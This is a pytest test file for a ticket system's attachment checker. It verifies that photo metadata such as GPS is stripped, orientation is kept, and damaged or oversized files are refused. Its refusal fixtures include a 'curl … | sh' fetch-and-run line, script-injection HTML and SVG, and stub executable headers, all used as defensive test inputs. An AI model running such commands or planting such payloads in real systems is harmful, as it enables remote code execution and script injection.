"""Attachments judged from their bytes: real images made with Pillow (with a phone's GPS
position, XMP and comments), real executables' headers, PDFs written by Pillow and by hand."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import ExifTags, Image, PngImagePlugin

from domain.errors import error_class
from domain.tickets.attachments import (
    MAX_PIXELS,
    AttachmentActiveContent,
    AttachmentDamaged,
    AttachmentTooLarge,
    AttachmentTypeRefused,
    AttachmentUncheckable,
    ImageTooManyPixels,
    check_attachment,
    read_limited,
)

LIMIT = 10 * 1_048_576
SECRETS = (b"secret-xmp", b"secret-comment", b"secret-text", b"Phone Maker")
HANOI = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (21.0, 1.0, 30.5),
         ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (105.0, 50.0, 12.0)}


def phone_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "Phone Maker"
    exif[ExifTags.IFD.GPSInfo] = HANOI
    return exif


def halves(size=(40, 20), mode="RGB") -> Image.Image:
    """Red on the left, blue on the right: where they end up shows the rotation."""
    image = Image.new(mode, size, "red")
    image.paste("blue", (size[0] // 2, 0, size[0], size[1]))
    return image


def photo(fmt: str, *, orientation: int = 1, image: Image.Image | None = None) -> bytes:
    image = image or halves()
    out = io.BytesIO()
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>secret-xmp</x:xmpmeta>"
    exif = phone_exif(orientation)
    if fmt == "JPEG":
        image.save(out, fmt, exif=exif, xmp=xmp, comment=b"secret-comment")
    elif fmt == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "secret-text")
        info.add_itxt("XML:com.adobe.xmp", xmp.decode())
        image.save(out, fmt, exif=exif, pnginfo=info)
    else:
        image.save(out, fmt, exif=exif, xmp=xmp)
    return out.getvalue()


def assert_no_metadata(content: bytes) -> None:
    reopened = Image.open(io.BytesIO(content))
    assert not reopened.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert len(reopened.getexif()) == 0
    assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment", "Comment"} & set(reopened.info)
    for secret in (*SECRETS, b"Exif\x00\x00", b"GPS"):
        assert secret not in content


@pytest.mark.parametrize(("fmt", "media_type"), [
    ("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")])
def test_a_photo_loses_its_location_and_metadata(fmt, media_type):
    upload = photo(fmt)
    original = Image.open(io.BytesIO(upload))
    assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # control: the position is there
    assert any(secret in upload for secret in SECRETS)
    checked = check_attachment(upload, max_bytes=LIMIT)
    assert checked.media_type == media_type and (checked.width, checked.height) == (40, 20)
    assert_no_metadata(checked.content)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize(("orientation", "top_left", "size"), [
    (1, "red", (40, 20)),   # as taken
    (3, "blue", (40, 20)),  # upside down
    (6, "red", (20, 40)),   # phone held upright: turned a quarter clockwise, red on top
    (8, "blue", (20, 40)),  # a quarter the other way, blue on top
])
def test_a_photo_stays_the_right_way_up(fmt, orientation, top_left, size):
    checked = check_attachment(photo(fmt, orientation=orientation), max_bytes=LIMIT)
    image = Image.open(io.BytesIO(checked.content)).convert("RGB")
    assert image.size == size == (checked.width, checked.height)
    red, blue = (255, 0, 0), (0, 0, 255)
    expected = red if top_left == "red" else blue
    corner = image.getpixel((1, 1))
    assert max(abs(a - b) for a, b in zip(corner, expected, strict=True)) < 40
    far = image.getpixel((size[0] - 2, size[1] - 2))
    assert max(abs(a - b) for a, b in zip(far, blue if expected == red else red,
                                          strict=True)) < 40


def test_transparency_and_palette_survive():
    image = halves(mode="RGBA")
    image.putpixel((0, 0), (0, 0, 0, 0))
    out = io.BytesIO()
    image.save(out, "PNG")
    cleaned = Image.open(io.BytesIO(check_attachment(out.getvalue(), max_bytes=LIMIT).content))
    assert cleaned.mode == "RGBA" and cleaned.getpixel((0, 0))[3] == 0

    palette = halves().convert("P")
    out = io.BytesIO()
    palette.save(out, "PNG", transparency=0)
    cleaned = Image.open(io.BytesIO(check_attachment(out.getvalue(), max_bytes=LIMIT).content))
    assert cleaned.mode == "P" and cleaned.info.get("transparency") == 0


def test_whatever_follows_a_jpeg_is_not_kept():
    upload = photo("JPEG") + b"\x7fELF\x02\x01\x01" + b"payload" * 100
    checked = check_attachment(upload, max_bytes=LIMIT)
    assert b"ELF" not in checked.content and b"payload" not in checked.content


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(46) +
      b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
      + bytes(100) + b"PE\x00\x00")
NOT_ACCEPTED = {
    "elf_executable": ELF,
    "windows_executable": PE,
    "shell_script": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
    "html": b"<!doctype html><script>alert(1)</script>",
    "svg_with_script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "zip_or_apk": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(40),
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(40),
    "empty": b"",
    "pdf_signature_late": b"junk before %PDF-1.7\n%%EOF\n",
    "text_saying_jpeg": b"JPEG JFIF \xff\xd8",
}


@pytest.mark.parametrize("upload", NOT_ACCEPTED.values(), ids=NOT_ACCEPTED.keys())
def test_anything_but_an_image_or_a_pdf_is_refused_whatever_its_name(upload):
    # The checks never see a file name or a Content-Type: `scam.jpg` changes nothing.
    with pytest.raises(AttachmentTypeRefused) as caught:
        check_attachment(upload, max_bytes=LIMIT)
    assert caught.value.status == 415 and caught.value.code == "attachment_type_refused"


def test_an_executable_behind_a_jpeg_signature_is_damaged_not_accepted():
    with pytest.raises(AttachmentDamaged) as caught:
        check_attachment(b"\xff\xd8\xff\xe0" + ELF, max_bytes=LIMIT)
    assert caught.value.status == 422 and caught.value.loc == ("body", "file")


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("keep", [0.5, 0.9])
def test_a_truncated_image_is_refused(fmt, keep):
    # Noise does not compress: most of the file is picture, and cutting it loses some.
    noise = Image.frombytes("RGB", (64, 64), bytes((i * 7919) % 251 for i in range(64 * 64 * 3)))
    upload = photo(fmt, image=noise)
    check_attachment(upload, max_bytes=LIMIT)  # control: whole, it passes
    with pytest.raises(AttachmentDamaged) as caught:
        check_attachment(upload[:int(len(upload) * keep)], max_bytes=LIMIT)
    assert caught.value.message("en") == (
        f"This {fmt} file cannot be read to its end; send the original again.")


def test_the_size_limit_counts_bytes_whatever_the_kind():
    upload = photo("PNG")
    assert check_attachment(upload, max_bytes=len(upload)).media_type == "image/png"
    with pytest.raises(AttachmentTooLarge) as caught:
        check_attachment(upload, max_bytes=len(upload) - 1)
    assert caught.value.status == 413
    assert caught.value.detail("en") == f"The attachment exceeds the {len(upload) - 1}-byte limit."
    with pytest.raises(AttachmentTooLarge):
        check_attachment(ELF, max_bytes=10)  # too large is said first, before the type


async def test_an_upload_is_read_no_further_than_the_limit():
    read = 0

    async def endless():
        nonlocal read
        while True:
            read += 1000
            yield b"x" * 1000

    with pytest.raises(AttachmentTooLarge):
        await read_limited(endless(), max_bytes=10_000)
    assert read == 11_000

    async def small():
        yield b"ab"
        yield b"cd"

    assert await read_limited(small(), max_bytes=4) == b"abcd"


def test_an_image_with_too_many_pixels_is_refused_before_it_is_decoded():
    upload = bytearray(photo("PNG", image=Image.new("L", (10, 10))))
    side = int(MAX_PIXELS ** 0.5) + 1
    ihdr = struct.pack(">II", side, side) + bytes(upload[24:29])
    upload[16:29] = ihdr  # the header's width and height, and its checksum below
    upload[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    with pytest.raises(ImageTooManyPixels) as caught:
        check_attachment(bytes(upload), max_bytes=LIMIT)
    assert caught.value.status == 413 and str(side) in caught.value.detail("vi")


def test_every_case_has_its_texts_and_is_in_the_catalogue():
    cases = (AttachmentTypeRefused, AttachmentTooLarge, ImageTooManyPixels, AttachmentDamaged,
             AttachmentActiveContent, AttachmentUncheckable)
    for case in cases:
        assert error_class(case.code) is case
        assert case.text("title", "vi") != case.text("title", "en")
        assert 400 <= case.status < 500
